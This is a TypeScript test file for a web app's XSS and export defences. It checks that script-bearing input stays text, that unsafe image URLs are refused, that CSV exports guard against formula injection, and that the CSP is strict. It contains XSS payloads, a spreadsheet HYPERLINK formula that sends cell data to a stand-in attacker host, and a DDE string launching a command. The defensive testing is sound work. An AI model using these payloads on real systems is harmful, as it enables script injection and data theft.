import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { contactMessages } from '../../db/schema/contact';
import { BrowserSession } from '../browser-session';
import { createTestApp } from '../test-app';
import { openTestDatabase } from '../test-database';
import { startSmtpSink } from '../smtp-sink';
import { signUp } from './actors';

/** What an attacker would type: each must come back as the same text, in JSON, never as markup. */
export const payloads = [
  '<script>alert("xss-script")</script>',
  '<img src=x onerror="alert(\'xss-img\')">',
  '<a href="javascript:alert(\'xss-link\')">click</a>',
  '<svg onload="alert(\'xss-svg\')"><circle r="1"/></svg>',
  '"><iframe srcdoc="<script>alert(1)</script>"></iframe>',
];

let app: FastifyInstance;

beforeAll(async () => {
  app = await createTestApp(
    { AUTH_RATE_LIMIT_MAX: '1000', CHAT_RATE_LIMIT_MAX: '1000', CONTACT_RATE_LIMIT_MAX: '1000' },
    { database: await openTestDatabase({ corpus: true }) },
  );
});
afterAll(async () => {
  await app?.close();
});

function expectJson(response: LightMyRequestResponse) {
  expect(response.headers['content-type']).toMatch(/^application\/json/);
  expect(response.headers['x-content-type-options']).toBe('nosniff');
}

describe('script-bearing content is stored and returned as text', () => {
  it('chat messages come back verbatim in the conversation', async () => {
    const reader = new BrowserSession(app);
    for (const [index, payload] of payloads.entries()) {
      const message = `${payload} What does scripture say about love?`;
      const reply = await reader.post('/api/chat', { sessionId: `xss-${index}`, message });
      expect(reply.statusCode, reply.body).toBe(200);
      expectJson(reply);
      const history = await reader.get(`/api/chat/xss-${index}`);
      expectJson(history);
      expect(history.json().messages[0].content).toBe(message);
    }
  });

  it('profile names are kept as typed, and only web addresses are accepted as the picture', async () => {
    const { browser } = await signUp(app, 'Hannah');
    const firstName = payloads[1]!.slice(0, 50);
    const lastName = payloads[3]!.slice(0, 50);
    const saved = await browser.patch('/api/auth/profile', { firstName, lastName });
    expect(saved.statusCode, saved.body).toBe(200);
    expectJson(saved);
    const user = (await browser.get('/api/auth/user')).json();
    expect([user.firstName, user.lastName]).toEqual([firstName, lastName]);
    for (const profileImageUrl of [
      'javascript:alert(1)',
      'JavaScript:alert(document.cookie)',
      'data:image/svg+xml,<svg onload=alert(1)>',
      'vbscript:msgbox(1)',
    ]) {
      const refused = await browser.patch('/api/auth/profile', { profileImageUrl });
      expect(refused.statusCode, profileImageUrl).toBe(400);
      expect(refused.json().message).toContain('Invalid image address');
    }
    const ok = await browser.patch('/api/auth/profile', { profileImageUrl: 'https://example.org/me.png' });
    expect(ok.statusCode, ok.body).toBe(200);
    expect(ok.json().user.profileImageUrl).toBe('https://example.org/me.png');
  });

  it('study notes come back verbatim, and the exports keep them as text with the formula guard', async () => {
    const guest = new BrowserSession(app);
    const verse = { religion: 'christianity', book: 'John', chapter: 3, translation: 'web', kind: 'note' };
    for (const [index, payload] of payloads.entries()) {
      const saved = await guest.post('/api/study/items', { ...verse, verse: index + 1, note: payload });
      expect(saved.statusCode, saved.body).toBe(201);
      expectJson(saved);
      expect(saved.json().note).toBe(payload);
    }
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    await guest.post('/api/study/items', { ...verse, verse: 10, note: formula });
    await guest.post('/api/study/items', { ...verse, verse: 11, note: '@SUM(1+1)*cmd|" /C calc"!A0' });

    const listed = await guest.get('/api/study/items');
    expect(listed.json().items.map((item: { note: string }) => item.note)).toEqual(
      expect.arrayContaining(payloads),
    );

    const csv = await guest.get('/api/study/export?format=csv');
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(/^attachment;/);
    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`);
    expect(csv.body).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    expect(csv.body).not.toMatch(/(^|,)"?[=@+-]HYPERLINK/m);

    const markdown = await guest.get('/api/study/export?format=markdown');
    expect(markdown.headers['content-type']).toBe('text/markdown; charset=utf-8');
    expect(markdown.headers['content-disposition']).toMatch(/^attachment;/);
    for (const payload of payloads) expect(markdown.body).toContain(`Note: ${payload}`);
  });

  it('the contact form stores the message as text and mails it as plain text only', async () => {
    const sink = await startSmtpSink();
    const mailing = await createTestApp({ SMTP_URL: sink.url, CONTACT_EMAIL: 'hello@sacredcircle.test' });
    try {
      const name = payloads[0]!;
      const message = payloads.join('\n');
      const sent = await new BrowserSession(mailing).post('/api/contact', {
        name,
        email: 'reader@example.org',
        message,
      });
      expect(sent.statusCode, sent.body).toBe(201);
      expectJson(sent);
      const [row] = await mailing.database.db
        .select()
        .from(contactMessages)
        .where(eq(contactMessages.id, sent.json().id));
      expect([row!.name, row!.message]).toEqual([name, message]);
      const mail = await sink.waitFor((candidate) =>
        candidate.envelope.to.includes('hello@sacredcircle.test'),
      );
      expect(mail.parsed.html).toBe(false);
      expect(mail.parsed.text).toContain(message);
      expect(mail.parsed.subject).toBe(`Sacred Circle contact form: message from ${name}`);
    } finally {
      await mailing.close();
      await sink.close();
    }
  });
});

describe('the Content-Security-Policy', () => {
  it('allows scripts only from this origin on every response (no inline script, no eval)', async () => {
    for (const url of ['/api/health', '/api/religions', '/api/nowhere']) {
      const policy = String((await app.inject({ url })).headers['content-security-policy']);
      const scriptSrc = /(?:^|;)\s*script-src ([^;]*)/.exec(policy)?.[1]?.trim();
      expect(scriptSrc, url).toBe("'self'");
      expect(policy).toContain("object-src 'none'");
      expect(policy).toContain("frame-ancestors 'none'");
      expect(policy).toContain("base-uri 'self'");
      expect(policy).not.toMatch(/unsafe-inline[^;]*;?\s*$|script-src[^;]*unsafe/);
    }
  });
});
